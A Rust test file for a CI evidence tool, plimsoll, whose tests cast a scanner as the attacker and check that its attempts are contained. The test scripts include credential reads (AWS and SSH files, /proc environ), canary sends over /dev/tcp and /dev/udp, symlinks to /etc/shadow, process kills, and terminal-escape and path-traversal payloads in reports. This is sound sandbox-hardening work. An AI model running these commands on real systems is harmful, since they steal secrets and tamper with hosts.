//! A13: the scanner is the attacker. Each adapter here is a program that does its worst and then reports that all is well.

use super::{CLEAN, a31::described, adapted, adapter, log, scanned, scanned_with, writes};
use crate::{
    processes,
    world::{Ran, World, pipeline_with, text},
};
use plimsoll_model::Digest;
use std::{
    fs,
    io::ErrorKind,
    net::{TcpListener, UdpSocket},
    os::{
        linux::net::SocketAddrExt as _,
        unix::net::{SocketAddr, UnixListener},
    },
};

const CANARY: &str = "canary-3f7c1d9a52";

/// The same flow as every attack below, and a scanner that only looks.
#[test]
fn a13_an_honest_scanner_passes() {
    let script = format!("grep -q 'project: shop' plimsoll.yaml\n{}", writes(CLEAN));
    let world = scanned(&script);
    world.json(&["run"]).ok();
}

#[test]
fn a13a_a_scanner_that_looks_for_credentials_finds_none() {
    let script = "env\n\
        for file in HOME/.aws/credentials ~/.aws/credentials ~/.ssh/id_ed25519 /root/.netrc; do cat $file || true; done\n\
        for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $file || true; done\n\
        cat STATE/keys/* STATE/scan/* || true\necho searched\n";
    let world = scanned("true");
    let [home, state] = [world.home(), world.state()].map(|path| path.display().to_string());
    let script = script.replace("HOME", &home).replace("STATE", &state) + &writes(CLEAN);
    let pipeline = fs::read_to_string(world.repository.path().join("plimsoll.yaml")).unwrap();
    let (before, after) = pipeline.split_once("    run: |\n      true\n").unwrap();
    let indented = script.replace('\n', "\n      ");
    world.commit_pipeline(&format!("{before}    run: |\n      {indented}\n{after}"));
    fs::create_dir(world.home().join(".aws")).unwrap();
    fs::write(world.home().join(".aws/credentials"), CANARY).unwrap();
    let mut command = world.command(&["--json", "run"]);
    Ran::of(command.env("AWS_SECRET_ACCESS_KEY", CANARY)).ok();
    let log = log(&world);
    assert!(log.contains("searched") && !log.contains(CANARY) && !log.contains("__signer"), "{log}");
    assert!(!log.contains("PRIVATE KEY"), "{log}");
}

/// Every door of a thief, with somebody behind each who would hear a single byte.
#[test]
fn a13b_a_scanner_that_asks_for_the_network_is_not_believed() {
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let directory = tempfile::tempdir().unwrap();
    let place = directory.path().join("socket");
    let unix = UnixListener::bind(&place).unwrap();
    let name = format!("plimsoll-sink-{}", std::process::id());
    let name = SocketAddr::from_abstract_name(&name).unwrap();
    let hidden = UnixListener::bind_addr(&name).unwrap();
    let ports = [tcp.local_addr().unwrap().port(), udp.local_addr().unwrap().port()];
    let script = format!(
        "bash -c 'echo {CANARY} > /dev/tcp/127.0.0.1/{}' || true\n\
         bash -c 'echo {CANARY} > /dev/udp/127.0.0.1/{}' || true\n\
         bash -c 'echo {CANARY} > /dev/tcp/192.0.2.1/443' || true\n\
         bash -c 'echo {CANARY} > /dev/udp/192.0.2.53/53' || true\n\
         for name in {} '\\0plimsoll-sink-{}'; do\n\
           perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); $n = $ARGV[0]; $n =~ s/^\\\\0/\\0/; connect(S, sockaddr_un($n)) and syswrite(S, \"x\")' \"$name\" || true\n\
         done\n{}",
        ports[0],
        ports[1],
        place.display(),
        std::process::id(),
        writes(CLEAN)
    );
    let world = scanned(&script);
    let ran = world.json(&["run"]).ended(1).refused(&["E-EVIDENCE-TAINTED"]);
    assert!(ran.parameter("E-EVIDENCE-TAINTED", "attempts").parse::<u64>().unwrap() >= 3, "{ran:#?}");
    let nobody = |error: std::io::Error| assert_eq!(error.kind(), ErrorKind::WouldBlock);
    for listener in [&unix, &hidden] {
        listener.set_nonblocking(true).unwrap();
        nobody(listener.accept().unwrap_err());
    }
    tcp.set_nonblocking(true).unwrap();
    udp.set_nonblocking(true).unwrap();
    nobody(tcp.accept().unwrap_err());
    nobody(udp.recv(&mut [0]).unwrap_err());
}

#[test]
fn a13c_a_scanner_cannot_rewrite_what_it_scans() {
    let script = format!(
        "for file in plimsoll.yaml /artifact/x; do\n\
           if (echo evil >> $file) || rm -f $file || chmod u+w $file || ln -sf /etc/passwd $file; then exit 9; fi\n\
         done\n{}",
        writes(CLEAN)
    );
    let world = scanned_with(&script, "    on: artifact\n");
    let run = world.json(&["run"]).ok().value();
    let file = &run["artifact"]["files"][0];
    assert_eq!(file["digest"], Digest::of(b"x\n").to_string());
    assert_eq!(fs::read(world.blob(&file["digest"])).unwrap(), b"x\n");
}

#[test]
fn a13d_a_scanner_that_prints_without_end_is_stopped() {
    let world = scanned(&format!("{}\nyes", writes(CLEAN)));
    world.json(&["run"]).ended(1).refused(&["E-EVIDENCE-ERRORED"]);
}

/// The file has the length and no content, so that the test is quick; a hole counts like data.
#[test]
fn a13e_a_report_of_gigabytes_is_not_read() {
    let world = scanned("truncate -s 7G report/lint.sarif");
    let stored = || fs::read_dir(world.state().join("layout/blobs/sha256")).unwrap().flatten();
    world.json(&["run"]).ended(1).refused(&["E-EVIDENCE-PARSE"]);
    assert!(stored().all(|blob| blob.metadata().unwrap().len() < 64 << 20), "it is kept nevertheless");
}

#[test]
fn a13f_a_daemon_of_a_scanner_ends_with_it() {
    let seconds = format!("79{}", std::process::id());
    let daemon =
        format!("setsid setsid sh -c 'trap \"\" TERM HUP; sleep {seconds}' </dev/null >/dev/null 2>&1 &");
    let world = scanned(&format!("{daemon}\n{}", writes(CLEAN)));
    world.json(&["run"]).ok();
    processes::until_gone(&format!("sleep\u{0}{seconds}"));
}

/// The shell that plays the tool.
fn shell() -> Digest {
    Digest::of(&fs::read("/usr/bin/sh").or_else(|_| fs::read("/bin/sh")).unwrap())
}

/// Its report is perfect; what made it is not what the environment believes.
#[test]
fn a13g_a_tool_that_nobody_listed_finds_nothing() {
    let listed = Digest::of(b"the tool that somebody looked at");
    let shop = adapted(&writes(CLEAN), &format!("{{block: error, tool: \"{listed}\"}}"));
    shop.world.json(&["run"]).ok();
    let refused = shop.promote().ended(1).refused(&["E-EVIDENCE-TOOL"]);
    assert_eq!(refused.parameter("E-EVIDENCE-TOOL", "actual"), shell().to_string());
    assert_eq!(shop.answer(), None);
}

#[test]
fn a13g_the_tool_that_the_environment_names_passes() {
    let shop = adapted(&writes(CLEAN), &format!("{{block: error, tool: \"{}\"}}", shell()));
    shop.world.json(&["run"]).ok();
    shop.promote().ok();
}

#[test]
fn a13h_a_report_about_another_revision() {
    let other = format!(
        r#""versionControlProvenance":[{{"repositoryUri":"https://git.example/shop","revisionId":"{}"}}],"results""#,
        "0".repeat(40)
    );
    let world = scanned(&writes(&CLEAN.replace("\"results\"", &other)));
    world.json(&["run"]).ended(1).refused(&["E-EVIDENCE-SUBJECT"]);
}

/// It may do to its own what it likes.
#[test]
fn a13i_a_scanner_reaches_no_process_of_others() {
    let mut bystander = std::process::Command::new("sleep").arg("1000").spawn().unwrap();
    let script = format!(
        "if kill -9 {0} || kill -STOP {0} || [ -e /proc/{0}/root/etc ]; then exit 9; fi\n\
         perl -e 'exit(syscall(101, 16, 1, 0, 0) == 0 ? 9 : 0)'\n{1}\nkill -9 1 || true",
        bystander.id(),
        writes(CLEAN)
    );
    let world = scanned(&script);
    world.json(&["run"]).ok();
    assert!(bystander.try_wait().unwrap().is_none());
    bystander.kill().unwrap();
    bystander.wait().unwrap();
}

#[test]
fn a13j_a_report_that_is_a_link_to_a_file_of_the_machine() {
    for target in ["/etc/shadow", "/etc/passwd", "../../../../../etc/shadow"] {
        let world = scanned(&format!("ln -s {target} report/lint.sarif"));
        world.json(&["run"]).ended(1).refused(&["E-EVIDENCE-PARSE"]);
    }
}

/// What the link leads to would pass, as a report that stands there does.
#[test]
fn a13j_a_report_behind_a_link_to_a_directory_of_the_machine() {
    let directory = tempfile::tempdir().unwrap();
    fs::write(directory.path().join("lint.sarif"), CLEAN).unwrap();
    let link = format!("ln -s {} report/sub", directory.path().display());
    let honest = format!("mkdir report/sub\n{}", writes(CLEAN).replace("report/", "report/sub/"));
    let deep = |script: &str| {
        let adapter = adapter(script, "    scratch: [report]\n");
        let adapter = adapter.replace("{sarif: report/", "{sarif: report/sub/");
        World::new(&pipeline_with("echo x > out/x", "out: [out]", &format!("evidence:\n{adapter}")))
    };
    deep(&honest).json(&["run"]).ok();
    deep(&link).json(&["run"]).ended(1).refused(&["E-EVIDENCE-PARSE"]);
}

/// Colours are asked for, as on a terminal: without them every escape would be taken out whoever wrote it.
#[test]
fn a13k_a_report_cannot_drive_a_terminal_or_show_files_outside() {
    let finding = r#"{"ruleId":"a","level":"error","message":{"text":"\u001b]0;owned\u0007\u001b[2J\u009b2J\u202e"},"locations":[{"physicalLocation":{"artifactLocation":{"uri":"../../../../etc/passwd"},"region":{"startLine":1}}}]}"#;
    let report = CLEAN.replace("\"results\":[]", &format!("\"results\":[{finding}]"));
    let shop = adapted(
        &format!("printf '\\033[2J\\302\\2332J\\342\\200\\256'\n{}", writes(&report)),
        "{block: error}",
    );
    let ran = shop.world.json(&["run"]).ended(1).refused(&["E-EVIDENCE-FAILED"]);
    let run = ran.value()["run"].clone();
    let promoted = shop.promote().ended(1).refused(&["E-EVIDENCE-FAILED"]);
    let coloured = |words: &[&str]| Ran::of(shop.world.command(words).env("CLICOLOR_FORCE", "1"));
    let why = coloured(&["why", "shop@local"]).ok();
    let log = coloured(&["logs", text(&run), "lint"]).ok();
    assert!(log.stdout.contains("?[2J?2J?"), "{log:?}");
    let json = coloured(&["--json", "logs", text(&run), "lint"]).ok();
    assert_eq!(json.value()[0]["text"], "\u{1b}[2J\u{9b}2J\u{202e}", "a program gets what was printed");
    let again = coloured(&["run"]).ended(1);
    for ran in [ran, promoted, why, log, json, again] {
        let shown = ran.stdout + &ran.stderr;
        for part in ["\u{7}", "\u{1b}]", "\u{1b}[2J", "\u{9b}", "\u{202e}", "root:"] {
            assert!(!shown.contains(part), "{shown}");
        }
    }
}

/// The finding stops nothing by itself.
#[test]
fn a13k_a_report_about_a_file_outside_is_about_something_else() {
    let finding = r#"{"ruleId":"a","level":"note","message":{"text":"x"},"locations":[{"physicalLocation":{"artifactLocation":{"uri":"../../../../etc/passwd"}}}]}"#;
    let report = CLEAN.replace("\"results\":[]", &format!("\"results\":[{finding}]"));
    let shop = described(Some(&report), "{block: high}");
    shop.world.json(&["run"]).ended(1).refused(&["E-EVIDENCE-SUBJECT"]);
}

#[test]
fn a13l_a_scanner_that_sleeps_for_ever_is_stopped() {
    let world = scanned_with(&format!("{}\nsleep 1000", writes(CLEAN)), "    timeout: 1s\n");
    world.json(&["run"]).ended(1).refused(&["E-EVIDENCE-ERRORED"]);
}
